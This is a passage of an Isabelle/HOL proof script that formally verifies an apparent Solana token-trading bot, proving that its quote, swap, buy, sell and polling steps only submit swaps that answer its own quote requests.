  assumes a: "trades_only w h a Q payer fee" and b: "trades_only w (h @ a) b Q payer fee"
  shows "trades_only w h (a @ b) Q payer fee"
proof (intro conjI ballI)
  fix r assume "r \<in> set (requests (a @ b))"
  then consider "r \<in> set (requests a)" | "r \<in> set (requests b)"
    by (auto simp: requests_append)
  then show "r = Q \<or> (\<exists>q. r = swap_post q payer fee \<and> quote_answers w h (a @ b) Q q)"
  proof cases
    case 1
    then show ?thesis using a quote_answers_right by blast
  next
    case 2
    then show ?thesis using b quote_answers_left by blast
  qed
next
  fix t assume "t \<in> set (swaps (a @ b))"
  then consider "t \<in> set (swaps a)" | "t \<in> set (swaps b)"
    by (auto simp: swaps_append)
  then show "\<exists>q p. t = SwapTransaction (swapTransaction p) \<and> quote_answers w h (a @ b) Q q
                 \<and> swap_answers w h (a @ b) (swap_post q payer fee) p"
  proof cases
    case 1
    then show ?thesis using a quote_answers_right swap_answers_right by blast
  next
    case 2
    then show ?thesis using b quote_answers_left swap_answers_left by blast
  qed
qed

lemma trades_only_quotes:
  "set (requests a) \<subseteq> {Q} \<Longrightarrow> swaps a = [] \<Longrightarrow> trades_only w h a Q payer fee"
  by auto

lemma trades_only_after:
  assumes "set (requests a) \<subseteq> {Q}" "swaps a = []" "trades_only w (h @ a) b Q payer fee"
  shows "trades_only w h (a @ b) Q payer fee"
  by (rule trades_only_append [OF trades_only_quotes [OF assms(1,2)] assms(3)])

lemma trades_only_before:
  assumes "trades_only w h a Q payer fee" "requests b = []" "swaps b = []"
  shows "trades_only w h (a @ b) Q payer fee"
  by (rule trades_only_append [OF assms(1)]) (simp add: assms(2,3))

lemma attempt_step_Return:
  "attempt_step what m a reply = Return v \<Longrightarrow> \<exists>r. reply = Resolves r \<and> bodyJson r = Inr v"
  by (auto simp: attempt_step_def on_catch_def split: fetch_reply.splits if_splits sum.splits)

lemma getQuote_loop_answer:
  "getQuote_loop w req m a h = (h1, Inr q)
   \<Longrightarrow> \<exists>pre r. h1 = h @ pre @ [Fetch req] \<and> quoteApi w h1 = Resolves r \<and> bodyJson r = Inr q"
proof (induction w req m a h rule: getQuote_loop.induct)
  case (1 w req m a h)
  define h' where "h' = h @ before_attempt m a @ [Console (FetchingQuote a), Fetch req]"
  have le: "a \<le> m"
    using "1.prems" by (subst (asm) getQuote_loop.simps) (simp split: if_splits)
  show ?case
  proof (cases "attempt_step ''Failed to get quote'' m a (quoteApi w h')")
    case (Return v)
    then have "getQuote_loop w req m a h = (h', Inr v)"
      using le by (subst getQuote_loop.simps) (simp add: h'_def Let_def)
    then have e: "h1 = h'" "v = q" using "1.prems" by simp_all
    obtain r where "quoteApi w h' = Resolves r" "bodyJson r = Inr v"
      using attempt_step_Return [OF Return] by blast
    then show ?thesis using e
      by (intro exI [of _ "before_attempt m a @ [Console (FetchingQuote a)]"] exI [of _ r])
         (simp add: h'_def)
  next
    case Continue
    then have run: "getQuote_loop w req m a h = getQuote_loop w req m (a + 1) h'"
      using le by (subst getQuote_loop.simps) (simp add: h'_def Let_def)
    then have "getQuote_loop w req m (a + 1) h' = (h1, Inr q)" using "1.prems" by simp
    then obtain pre r where p: "h1 = h' @ pre @ [Fetch req]" "quoteApi w h1 = Resolves r"
        "bodyJson r = Inr q"
      using "1.IH" [OF le h'_def Continue] by blast
    show ?thesis using p
      by (intro exI [of _ "before_attempt m a @ [Console (FetchingQuote a), Fetch req] @ pre"]
                exI [of _ r])
         (simp add: h'_def)
  next
    case (Throw e)
    then have "getQuote_loop w req m a h = (h', Inl e)"
      using le by (subst getQuote_loop.simps) (simp add: h'_def Let_def)
    then show ?thesis using "1.prems" by simp
  qed
qed

lemma getSwapTransaction_loop_answer:
  "getSwapTransaction_loop w req m a h = (h1, Inr p)
   \<Longrightarrow> \<exists>pre r. h1 = h @ pre @ [Fetch req] \<and> swapApi w h1 = Resolves r \<and> bodyJson r = Inr p"
proof (induction w req m a h rule: getSwapTransaction_loop.induct)
  case (1 w req m a h)
  define h' where "h' = h @ before_attempt m a @ [Console (RequestingSwap a), Fetch req]"
  have le: "a \<le> m"
    using "1.prems" by (subst (asm) getSwapTransaction_loop.simps) (simp split: if_splits)
  show ?case
  proof (cases "attempt_step ''Failed to get swap transaction'' m a (swapApi w h')")
    case (Return v)
    then have "getSwapTransaction_loop w req m a h = (h', Inr v)"
      using le by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def)
    then have e: "h1 = h'" "v = p" using "1.prems" by simp_all
    obtain r where "swapApi w h' = Resolves r" "bodyJson r = Inr v"
      using attempt_step_Return [OF Return] by blast
    then show ?thesis using e
      by (intro exI [of _ "before_attempt m a @ [Console (RequestingSwap a)]"] exI [of _ r])
         (simp add: h'_def)
  next
    case Continue
    then have run: "getSwapTransaction_loop w req m a h = getSwapTransaction_loop w req m (a + 1) h'"
      using le by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def)
    then have "getSwapTransaction_loop w req m (a + 1) h' = (h1, Inr p)" using "1.prems" by simp
    then obtain pre r where p: "h1 = h' @ pre @ [Fetch req]" "swapApi w h1 = Resolves r"
        "bodyJson r = Inr p"
      using "1.IH" [OF le h'_def Continue] by blast
    show ?thesis using p
      by (intro exI [of _ "before_attempt m a @ [Console (RequestingSwap a), Fetch req] @ pre"]
                exI [of _ r])
         (simp add: h'_def)
  next
    case (Throw e)
    then have "getSwapTransaction_loop w req m a h = (h', Inl e)"
      using le by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def)
    then show ?thesis using "1.prems" by simp
  qed
qed

text \<open>What a quote request and a swap-build request leave in the history.\<close>

lemma getQuote_trace:
  assumes "getQuote w inMint outMint amount slippage 3 h = (h1, r)"
  shows "\<exists>n. h1 = h @ n \<and> retry_only n
           \<and> set (requests n) = {quote_request inMint outMint amount slippage}
           \<and> (\<forall>q. r = Inr q \<longrightarrow> quote_answers w h n (quote_request inMint outMint amount slippage) q)"
proof -
  let ?Q = "quote_request inMint outMint amount slippage"
  obtain n where n: "h1 = h @ n" "retry_only n" using getQuote_ext [OF assms] by blast
  obtain k where "requests h1 = requests h @ replicate (Suc k) ?Q"
    using getQuote_requests [OF assms] by blast
  then have "requests n = replicate (Suc k) ?Q" using n(1) by (simp add: requests_append)
  then have rq: "set (requests n) = {?Q}" by (simp only: set_replicate_Suc)
  have "quote_answers w h n ?Q q" if "r = Inr q" for q
  proof -
    have "getQuote_loop w ?Q 3 0 h = (h1, Inr q)" using assms that by (simp add: getQuote_def)
    then obtain pre rr where p: "h1 = h @ pre @ [Fetch ?Q]" "quoteApi w h1 = Resolves rr"
        "bodyJson rr = Inr q"
      using getQuote_loop_answer by blast
    then have "n = pre @ Fetch ?Q # []" using n(1) by simp
    then show ?thesis unfolding quote_answers_iff using p by metis
  qed
  then show ?thesis using n rq by blast
qed

lemma getSwapTransaction_trace:
  assumes "getSwapTransaction w q payer (Some fee) 3 h = (h1, r)"
  shows "\<exists>n. h1 = h @ n \<and> retry_only n
           \<and> set (requests n) = {swap_post q payer fee}
           \<and> (\<forall>p. r = Inr p \<longrightarrow> swap_answers w h n (swap_post q payer fee) p)"
proof -
  let ?P = "swap_post q payer fee"
  obtain n where n: "h1 = h @ n" "retry_only n" using getSwapTransaction_ext [OF assms] by blast
  obtain k where "requests h1 = requests h @ replicate (Suc k) ?P"
    using getSwapTransaction_requests [OF assms] by (auto simp: swap_post_def)
  then have "requests n = replicate (Suc k) ?P" using n(1) by (simp add: requests_append)
  then have rq: "set (requests n) = {?P}" by (simp only: set_replicate_Suc)
  have "swap_answers w h n ?P p" if "r = Inr p" for p
  proof -
    have "getSwapTransaction_loop w ?P 3 0 h = (h1, Inr p)"
      using assms that by (simp add: getSwapTransaction_def swap_post_def)
    then obtain pre rr where p: "h1 = h @ pre @ [Fetch ?P]" "swapApi w h1 = Resolves rr"
        "bodyJson rr = Inr p"
      using getSwapTransaction_loop_answer by blast
    then have "n = pre @ Fetch ?P # []" using n(1) by simp
    then show ?thesis unfolding swap_answers_iff using p by metis
  qed
  then show ?thesis using n rq by blast
qed

text \<open>A call of \<open>executeSwapOnce\<close> trades in the direction it was called for.\<close>

lemma executeSwapOnce_shape:
  assumes "executeSwapOnce w payer inMint outMint amount slippage fee h = (h1, r)"
      and "getQuote w inMint outMint amount slippage 3 h = (hq, Inr q)"
      and "getSwapTransaction w q payer (Some fee) 3 hq = (hs, rs)"
  shows "h1 = hs
         \<or> (\<exists>p rest. rs = Inr p
               \<and> h1 = hs @ Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))) # rest
               \<and> requests rest = [] \<and> submitted rest = [])"
  using assms
  by (auto simp: executeSwapOnce_def Let_def split: sum.splits option.splits)

lemma executeSwapOnce_trades:
  assumes "executeSwapOnce w payer inMint outMint amount slippage fee h = (h1, r)"
  shows "\<exists>new. h1 = h @ new
           \<and> quote_request inMint outMint amount slippage \<in> set (requests new)
           \<and> trades_only w h new (quote_request inMint outMint amount slippage) payer fee"
proof -
  let ?Q = "quote_request inMint outMint amount slippage"
  obtain hq rq where q: "getQuote w inMint outMint amount slippage 3 h = (hq, rq)"
    by (cases "getQuote w inMint outMint amount slippage 3 h")
  obtain n1 where n1: "hq = h @ n1" "retry_only n1" "set (requests n1) = {?Q}"
      "\<forall>q. rq = Inr q \<longrightarrow> quote_answers w h n1 ?Q q"
    using getQuote_trace [OF q] by blast
  have s1: "swaps n1 = []" using n1(2) by (rule retry_only_swaps)
  have t1: "trades_only w h n1 ?Q payer fee"
    using n1(3) s1 by (intro trades_only_quotes) simp_all
  show ?thesis
  proof (cases rq)
    case (Inl e)
    then have "h1 = hq" using assms q by (simp add: executeSwapOnce_def)
    then show ?thesis using n1(1,3) t1 by (intro exI [of _ n1]) simp
  next
    case (Inr qq)
    have qa: "quote_answers w h n1 ?Q qq" using n1(4) Inr by simp
    obtain hs rs where s: "getSwapTransaction w qq payer (Some fee) 3 hq = (hs, rs)"
      by (cases "getSwapTransaction w qq payer (Some fee) 3 hq")
    obtain n2 where n2: "hs = hq @ n2" "retry_only n2" "set (requests n2) = {swap_post qq payer fee}"
        "\<forall>p. rs = Inr p \<longrightarrow> swap_answers w hq n2 (swap_post qq payer fee) p"
      using getSwapTransaction_trace [OF s] by blast
    have s2: "swaps n2 = []" using n2(2) by (rule retry_only_swaps)
    have qa2: "quote_answers w h (n1 @ n2) ?Q qq" using qa by (rule quote_answers_right)
    have t2: "trades_only w h (n1 @ n2) ?Q payer fee"
    proof (intro conjI ballI)
      fix r assume "r \<in> set (requests (n1 @ n2))"
      then have "r = ?Q \<or> r = swap_post qq payer fee"
        using n1(3) n2(3) by (auto simp: requests_append)
      then show "r = ?Q \<or> (\<exists>q. r = swap_post q payer fee \<and> quote_answers w h (n1 @ n2) ?Q q)"
        using qa2 by blast
    next
      fix t assume "t \<in> set (swaps (n1 @ n2))"
      then show "\<exists>q p. t = SwapTransaction (swapTransaction p) \<and> quote_answers w h (n1 @ n2) ?Q q
                 \<and> swap_answers w h (n1 @ n2) (swap_post q payer fee) p"
        using s1 s2 by (simp add: swaps_append)
    qed
    have inQ: "?Q \<in> set (requests (n1 @ n2 @ tail))" for tail
      using n1(3) by (simp add: requests_append)
    from executeSwapOnce_shape [OF assms q [unfolded Inr] s]
    show ?thesis
    proof
      assume "h1 = hs"
      then have "h1 = h @ (n1 @ n2)" using n1(1) n2(1) by simp
      then show ?thesis using t2 inQ [of "[]"] by (intro exI [of _ "n1 @ n2"]) simp
    next
      assume "\<exists>p rest. rs = Inr p
               \<and> h1 = hs @ Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))) # rest
               \<and> requests rest = [] \<and> submitted rest = []"
      then obtain p rest where x: "rs = Inr p"
          "h1 = hs @ Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))) # rest"
          "requests rest = []" "submitted rest = []" by blast
      let ?tail = "Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))) # rest"
      let ?new = "(n1 @ n2) @ ?tail"
      have sa: "swap_answers w h ?new (swap_post qq payer fee) p"
      proof -
        have "swap_answers w (h @ n1) n2 (swap_post qq payer fee) p" using n2(4) x(1) n1(1) by simp
        then have "swap_answers w h (n1 @ n2) (swap_post qq payer fee) p" by (rule swap_answers_left)
        then show ?thesis by (rule swap_answers_right)
      qed
      have qa3: "quote_answers w h ?new ?Q qq" using qa2 by (rule quote_answers_right)
      have rn: "requests ?new = requests (n1 @ n2)" using x(3) by (simp add: requests_append)
      have "swaps rest = []" using x(4) by (simp add: swaps_def)
      then have sn: "swaps ?new = [SwapTransaction (swapTransaction p)]"
        using s1 s2 by (simp add: swaps_append)
      have "trades_only w h ?new ?Q payer fee"
      proof (intro conjI ballI)
        fix r assume "r \<in> set (requests ?new)"
        then have "r = ?Q \<or> r = swap_post qq payer fee"
          using n1(3) n2(3) rn by (auto simp: requests_append)
        then show "r = ?Q \<or> (\<exists>q. r = swap_post q payer fee \<and> quote_answers w h ?new ?Q q)"
          using qa3 by blast
      next
        fix t assume "t \<in> set (swaps ?new)"
        then have "t = SwapTransaction (swapTransaction p)" using sn by simp
        then show "\<exists>q p. t = SwapTransaction (swapTransaction p) \<and> quote_answers w h ?new ?Q q
                 \<and> swap_answers w h ?new (swap_post q payer fee) p"
          using qa3 sa by blast
      qed
      moreover have "h1 = h @ ?new" using x(2) n1(1) n2(1) by simp
      moreover have "?Q \<in> set (requests ?new)" using inQ [of ?tail] by simp
      ultimately show ?thesis by blast
    qed
  qed
qed

text \<open>The buy path trades WSOL for the quote mint, the sell path the quote mint for WSOL.\<close>

lemma buy_path_shape:
  assumes "buy_path w c h = (h1, r)"
  shows "h1 = h @ [Rpc (GetBalance (cfg_wallet c))]
     \<or> (\<exists>sol. h1 = h @ [Rpc (GetBalance (cfg_wallet c)),
                         Console (SkipBuyInsufficient sol (cfg_inAmountLamports c))])
     \<or> (\<exists>hq rq. getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
                    (cfg_slippageBps c) 3 (h @ [Rpc (GetBalance (cfg_wallet c))]) = (hq, rq)
           \<and> (h1 = hq \<or> (\<exists>price. h1 = hq @ [Console (BuyCheck price)])
               \<or> (\<exists>price hx rx.
                     executeSwapOnce w (cfg_wallet c) WSOL_MINT (cfg_quoteMint c)
                       (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
                       (cfg_priorityFeeLamports c)
                       (hq @ [Console (BuyCheck price), Console TriggerBuy]) = (hx, rx)
                   \<and> (h1 = hx \<or> (\<exists>sig. h1 = hx @ [Console (BuyDone sig)])))))"
  using assms
  by (fastforce simp: buy_path_def Let_def split: sum.splits prod.splits if_splits)

lemma buy_path_trades:
  assumes "buy_path w c h = (h1, r)"
  shows "\<exists>new. h1 = h @ new \<and> Rpc (GetBalance (cfg_wallet c)) \<in> set new
           \<and> trades_only w h new
               (quote_request WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
                  (cfg_slippageBps c))
               (cfg_wallet c) (cfg_priorityFeeLamports c)"
proof -
  let ?Q = "quote_request WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
              (cfg_slippageBps c)"
  let ?gb = "Rpc (GetBalance (cfg_wallet c))"
  let ?T = "\<lambda>new. trades_only w h new ?Q (cfg_wallet c) (cfg_priorityFeeLamports c)"
  have quiet: "\<exists>new. h1 = h @ new \<and> ?gb \<in> set new \<and> ?T new"
    if "h1 = h @ ?gb # tail" "set (requests tail) \<subseteq> {?Q}" "swaps tail = []" for tail
    using that by (intro exI [of _ "?gb # tail"]) auto
  from buy_path_shape [OF assms]
  consider (nobalance) "h1 = h @ [?gb]"
    | (skip) sol where "h1 = h @ [?gb, Console (SkipBuyInsufficient sol (cfg_inAmountLamports c))]"
    | (quoted) hq rq where
        "getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 (h @ [?gb]) = (hq, rq)"
        "h1 = hq \<or> (\<exists>price. h1 = hq @ [Console (BuyCheck price)])
          \<or> (\<exists>price hx rx.
                executeSwapOnce w (cfg_wallet c) WSOL_MINT (cfg_quoteMint c)
                  (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
                  (cfg_priorityFeeLamports c)
                  (hq @ [Console (BuyCheck price), Console TriggerBuy]) = (hx, rx)
              \<and> (h1 = hx \<or> (\<exists>sig. h1 = hx @ [Console (BuyDone sig)])))"
    by blast
  then show ?thesis
  proof cases
    case nobalance
    then show ?thesis by (intro quiet [of "[]"]) simp_all
  next
    case skip
    then show ?thesis
      by (intro quiet [of "[Console (SkipBuyInsufficient sol (cfg_inAmountLamports c))]"]) simp_all
  next
    case quoted
    obtain n1 where n1: "hq = (h @ [?gb]) @ n1" "retry_only n1" "set (requests n1) = {?Q}"
      using getQuote_trace [OF quoted(1)] by blast
    have s1: "swaps n1 = []" using n1(2) by (rule retry_only_swaps)
    from quoted(2) consider (stop) "h1 = hq" | (priced) price where "h1 = hq @ [Console (BuyCheck price)]"
      | (run) price hx rx where
          "executeSwapOnce w (cfg_wallet c) WSOL_MINT (cfg_quoteMint c)
             (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
             (cfg_priorityFeeLamports c)
             (hq @ [Console (BuyCheck price), Console TriggerBuy]) = (hx, rx)"
          "h1 = hx \<or> (\<exists>sig. h1 = hx @ [Console (BuyDone sig)])"
      by blast
    then show ?thesis
    proof cases
      case stop
      then show ?thesis using n1 s1 by (intro quiet [of n1]) simp_all
    next
      case priced
      then show ?thesis using n1 s1
        by (intro quiet [of "n1 @ [Console (BuyCheck price)]"])
           (simp_all add: requests_append swaps_append)
    next
      case run
      obtain tail where tail: "h1 = hx @ tail" "requests tail = []" "swaps tail = []"
      proof -
        from run(2) show ?thesis
        proof
          assume "h1 = hx"
          then show ?thesis by (intro that [of "[]"]) simp_all
        next
          assume "\<exists>sig. h1 = hx @ [Console (BuyDone sig)]"
          then obtain sig where "h1 = hx @ [Console (BuyDone sig)]" by blast
          then show ?thesis by (intro that [of "[Console (BuyDone sig)]"]) simp_all
        qed
      qed
      let ?a = "?gb # n1 @ [Console (BuyCheck price), Console TriggerBuy]"
      obtain nx where nx: "hx = (hq @ [Console (BuyCheck price), Console TriggerBuy]) @ nx"
          "trades_only w (hq @ [Console (BuyCheck price), Console TriggerBuy]) nx ?Q
             (cfg_wallet c) (cfg_priorityFeeLamports c)"
        using executeSwapOnce_trades [OF run(1)] by blast
      have base: "hq @ [Console (BuyCheck price), Console TriggerBuy] = h @ ?a"
        using n1(1) by simp
      have a: "set (requests ?a) \<subseteq> {?Q}" "swaps ?a = []"
        using n1(3) s1 by (simp_all add: requests_append swaps_append)
      have "?T (?a @ nx)"
        using nx(2) unfolding base by (rule trades_only_after [OF a])
      then have "?T ((?a @ nx) @ tail)"
        using tail(2,3) by (rule trades_only_before)
      moreover have "h1 = h @ ((?a @ nx) @ tail)" using tail(1) nx(1) base by simp
      moreover have "?gb \<in> set ((?a @ nx) @ tail)" by simp
      ultimately show ?thesis by blast
    qed
  qed
qed

lemma sell_path_shape:
  assumes "sell_path w c b h = (h1, r)"
  shows "\<exists>hq rq. getQuote w (cfg_quoteMint c) WSOL_MINT (toString_int b)
                    (cfg_slippageBps c) 3 h = (hq, rq)
           \<and> (h1 = hq \<or> (\<exists>price. h1 = hq @ [Console (SellCheck b price)])
               \<or> (\<exists>price hx rx.
                     executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
                       (toString_int b) (cfg_slippageBps c) (cfg_priorityFeeLamports c)
                       (hq @ [Console (SellCheck b price), Console TriggerSell]) = (hx, rx)
                   \<and> (h1 = hx \<or> (\<exists>sig. h1 = cleanup w c (hx @ [Console (SellDone sig)])))))"
  using assms
  by (fastforce simp: sell_path_def Let_def split: sum.splits prod.splits if_splits)

lemma cleanup_quiet: "\<exists>tail. cleanup w c h = h @ tail \<and> requests tail = [] \<and> swaps tail = []"
proof -
  obtain tail where t: "cleanup w c h = h @ tail" "swaps tail = []"
    using cleanup_obs [of w c h] by blast
  have "requests (h @ tail) = requests h" using cleanup_requests [of w c h] t(1) by simp
  then have "requests tail = []" by (simp add: requests_append)
  then show ?thesis using t by blast
qed

lemma sell_path_trades:
  assumes "sell_path w c b h = (h1, r)"
  shows "\<exists>new. h1 = h @ new
           \<and> quote_request (cfg_quoteMint c) WSOL_MINT (toString_int b) (cfg_slippageBps c)
               \<in> set (requests new)
           \<and> trades_only w h new
               (quote_request (cfg_quoteMint c) WSOL_MINT (toString_int b) (cfg_slippageBps c))
               (cfg_wallet c) (cfg_priorityFeeLamports c)"
proof -
  let ?Q = "quote_request (cfg_quoteMint c) WSOL_MINT (toString_int b) (cfg_slippageBps c)"
  let ?T = "\<lambda>new. trades_only w h new ?Q (cfg_wallet c) (cfg_priorityFeeLamports c)"
  obtain hq rq where q:
      "getQuote w (cfg_quoteMint c) WSOL_MINT (toString_int b) (cfg_slippageBps c) 3 h = (hq, rq)"
      "h1 = hq \<or> (\<exists>price. h1 = hq @ [Console (SellCheck b price)])
        \<or> (\<exists>price hx rx.
              executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
                (toString_int b) (cfg_slippageBps c) (cfg_priorityFeeLamports c)
                (hq @ [Console (SellCheck b price), Console TriggerSell]) = (hx, rx)
            \<and> (h1 = hx \<or> (\<exists>sig. h1 = cleanup w c (hx @ [Console (SellDone sig)]))))"
    using sell_path_shape [OF assms] by blast
  obtain n1 where n1: "hq = h @ n1" "retry_only n1" "set (requests n1) = {?Q}"
    using getQuote_trace [OF q(1)] by blast
  have s1: "swaps n1 = []" using n1(2) by (rule retry_only_swaps)
  have quiet: "\<exists>new. h1 = h @ new \<and> ?Q \<in> set (requests new) \<and> ?T new"
    if "h1 = hq @ tail" "requests tail = []" "swaps tail = []" for tail
    using that n1(1,3) s1
    by (intro exI [of _ "n1 @ tail"]) (auto simp: requests_append swaps_append)
  have cleaned: "\<exists>tail. cleanup w c (hx @ [Console (SellDone sig)]) = hx @ tail
                   \<and> requests tail = [] \<and> swaps tail = []" for hx sig
  proof -
    obtain t where "cleanup w c (hx @ [Console (SellDone sig)]) = (hx @ [Console (SellDone sig)]) @ t"
        "requests t = []" "swaps t = []"
      using cleanup_quiet [of w c "hx @ [Console (SellDone sig)]"] by blast
    then show ?thesis by (intro exI [of _ "Console (SellDone sig) # t"]) simp
  qed
  from q(2) consider (stop) "h1 = hq" | (priced) price where "h1 = hq @ [Console (SellCheck b price)]"
    | (run) price hx rx where
        "executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
           (toString_int b) (cfg_slippageBps c) (cfg_priorityFeeLamports c)
           (hq @ [Console (SellCheck b price), Console TriggerSell]) = (hx, rx)"
        "h1 = hx \<or> (\<exists>sig. h1 = cleanup w c (hx @ [Console (SellDone sig)]))"
    by blast
  then show ?thesis
  proof cases
    case stop
    then show ?thesis by (intro quiet [of "[]"]) simp_all
  next
    case priced
    then show ?thesis by (intro quiet [of "[Console (SellCheck b price)]"]) simp_all
  next
    case run
    obtain tail where tail: "h1 = hx @ tail" "requests tail = []" "swaps tail = []"
    proof -
      from run(2) show ?thesis
      proof
        assume "h1 = hx"
        then show ?thesis by (intro that [of "[]"]) simp_all
      next
        assume "\<exists>sig. h1 = cleanup w c (hx @ [Console (SellDone sig)])"
        then obtain sig where "h1 = cleanup w c (hx @ [Console (SellDone sig)])" by blast
        then show ?thesis using cleaned [of hx sig] that by auto
      qed
    qed
    let ?a = "n1 @ [Console (SellCheck b price), Console TriggerSell]"
    obtain nx where nx: "hx = (hq @ [Console (SellCheck b price), Console TriggerSell]) @ nx"
        "trades_only w (hq @ [Console (SellCheck b price), Console TriggerSell]) nx ?Q
           (cfg_wallet c) (cfg_priorityFeeLamports c)"
      using executeSwapOnce_trades [OF run(1)] by blast
    have base: "hq @ [Console (SellCheck b price), Console TriggerSell] = h @ ?a"
      using n1(1) by simp
    have a: "set (requests ?a) \<subseteq> {?Q}" "swaps ?a = []"
      using n1(3) s1 by (simp_all add: requests_append swaps_append)
    have "?T (?a @ nx)"
      using nx(2) unfolding base by (rule trades_only_after [OF a])
    then have "?T ((?a @ nx) @ tail)"
      using tail(2,3) by (rule trades_only_before)
    moreover have "h1 = h @ ((?a @ nx) @ tail)" using tail(1) nx(1) base by simp
    moreover have "?Q \<in> set (requests ((?a @ nx) @ tail))"
      using n1(3) by (simp add: requests_append)
    ultimately show ?thesis by blast
  qed
qed

lemma getTokenBalanceByMint_first:
  assumes "getTokenBalanceByMint w owner mint h = (h0, r0)"
  shows "\<exists>n0. h0 = h @ Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID) # n0
           \<and> triggers n0 = [] \<and> swaps n0 = [] \<and> requests n0 = [] \<and> submitted n0 = []"
  using assms
  by (auto simp: getTokenBalanceByMint_def addFromProgram_def Let_def
           split: sum.splits prod.splits)

text \<open>What one pass through the body of the loop does, by the position it read.\<close>

lemma tick_try_position:
  assumes b: "getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, r0)"
      and t: "tick_try w c h = (h1, r)"
  shows "\<exists>new. h1 = h @ new
     \<and> take 1 new = [Rpc (GetParsedTokenAccountsByOwner (cfg_wallet c) (cfg_quoteMint c) TOKEN_PROGRAM_ID)]
     \<and> (case r0 of
           Inl e \<Rightarrow> triggers new = [] \<and> requests new = [] \<and> submitted new = []
         | Inr tokenBalanceUnits \<Rightarrow>
             if tokenBalanceUnits > 0
             then ((triggers new = [] \<and> swaps new = [])
                   \<or> (triggers new = [TriggerSell] \<and> length (swaps new) \<le> 1))
                  \<and> quote_request (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
                       (cfg_slippageBps c) \<in> set (requests new)
                  \<and> trades_only w h new
                       (quote_request (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
                          (cfg_slippageBps c))
                       (cfg_wallet c) (cfg_priorityFeeLamports c)
             else ((triggers new = [] \<and> swaps new = [])
                   \<or> (triggers new = [TriggerBuy] \<and> length (swaps new) \<le> 1))
                  \<and> Rpc (GetBalance (cfg_wallet c)) \<in> set new
                  \<and> trades_only w h new
                       (quote_request WSOL_MINT (cfg_quoteMint c)
                          (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c))
                       (cfg_wallet c) (cfg_priorityFeeLamports c))"
proof -
  let ?first = "Rpc (GetParsedTokenAccountsByOwner (cfg_wallet c) (cfg_quoteMint c) TOKEN_PROGRAM_ID)"
  obtain n0 where n0: "h0 = h @ ?first # n0" "triggers n0 = []" "swaps n0 = []"
      "requests n0 = []" "submitted n0 = []"
    using getTokenBalanceByMint_first [OF b] by blast
  have a: "set (requests (?first # n0)) \<subseteq> {Q}" "swaps (?first # n0) = []" for Q
    using n0(3,4) by simp_all
  show ?thesis
  proof (cases r0)
    case (Inl e)
    then have "h1 = h0" using b t by (simp add: tick_try_def)
    then show ?thesis using n0 Inl by (intro exI [of _ "?first # n0"]) simp
  next
    case (Inr tokenBalanceUnits)
    show ?thesis
    proof (cases "tokenBalanceUnits > 0")
      case True
      let ?Q = "quote_request (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
                  (cfg_slippageBps c)"
      have s: "sell_path w c tokenBalanceUnits h0 = (h1, r)"
        using b t Inr True by (simp add: tick_try_def)
      obtain n1 where n1: "h1 = h0 @ n1"
          "(triggers n1 = [] \<and> swaps n1 = []) \<or> (triggers n1 = [TriggerSell] \<and> length (swaps n1) \<le> 1)"
        using sell_path_obs [OF s] by blast
      obtain n2 where n2: "h1 = h0 @ n2" "?Q \<in> set (requests n2)"
          "trades_only w h0 n2 ?Q (cfg_wallet c) (cfg_priorityFeeLamports c)"
        using sell_path_trades [OF s] by blast
      have same: "n2 = n1" using n1(1) n2(1) by simp
      let ?new = "(?first # n0) @ n1"
      have tr: "trades_only w h ?new ?Q (cfg_wallet c) (cfg_priorityFeeLamports c)"
        using n2(3) unfolding same n0(1) by (rule trades_only_after [OF a])
      have hh: "h1 = h @ ?new" using n1(1) n0(1) by simp
      have tk: "take 1 ?new = [?first]" by simp
      have dj: "(triggers ?new = [] \<and> swaps ?new = [])
                     \<or> (triggers ?new = [TriggerSell] \<and> length (swaps ?new) \<le> 1)"
        using n1(2) n0(2,3) by (simp add: triggers_append swaps_append)
      have mem: "?Q \<in> set (requests ?new)"
        using n2(2) same by (simp add: requests_append)
      show ?thesis
        apply (intro exI [of _ ?new] conjI)
          apply (rule hh)
         apply (rule tk)
        apply (simp only: Inr sum.case if_P [OF True])
        apply (intro conjI)
           apply (rule dj)
          apply (rule mem)
         apply (rule tr [THEN conjunct1])
        apply (rule tr [THEN conjunct2])
        done
    next
      case False
      let ?Q = "quote_request WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
                  (cfg_slippageBps c)"
      have s: "buy_path w c h0 = (h1, r)"
        using b t Inr False by (simp add: tick_try_def)
      obtain n1 where n1: "h1 = h0 @ n1"
          "(triggers n1 = [] \<and> swaps n1 = []) \<or> (triggers n1 = [TriggerBuy] \<and> length (swaps n1) \<le> 1)"
        using buy_path_obs [OF s] by blast
      obtain n2 where n2: "h1 = h0 @ n2" "Rpc (GetBalance (cfg_wallet c)) \<in> set n2"
          "trades_only w h0 n2 ?Q (cfg_wallet c) (cfg_priorityFeeLamports c)"
        using buy_path_trades [OF s] by blast
      have same: "n2 = n1" using n1(1) n2(1) by simp
      let ?new = "(?first # n0) @ n1"
      have tr: "trades_only w h ?new ?Q (cfg_wallet c) (cfg_priorityFeeLamports c)"
        using n2(3) unfolding same n0(1) by (rule trades_only_after [OF a])
